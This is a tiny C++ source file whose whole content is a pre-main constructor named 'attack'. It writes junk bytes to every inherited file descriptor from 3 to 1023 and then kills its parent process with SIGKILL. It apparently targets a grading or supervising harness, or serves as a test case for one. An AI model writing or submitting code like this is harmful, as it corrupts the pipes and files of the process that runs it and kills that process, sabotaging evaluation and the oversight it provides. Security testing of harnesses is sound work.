// Before main, and before most other constructors.
#include <csignal>
#include <unistd.h>

__attribute__((constructor(101))) void attack() {
    for (int file = 3; file < 1024; file++) {
        if (write(file, "\377\377\377\377", 4) < 0) continue;
    }
    kill(getppid(), SIGKILL);
}

int main() {}
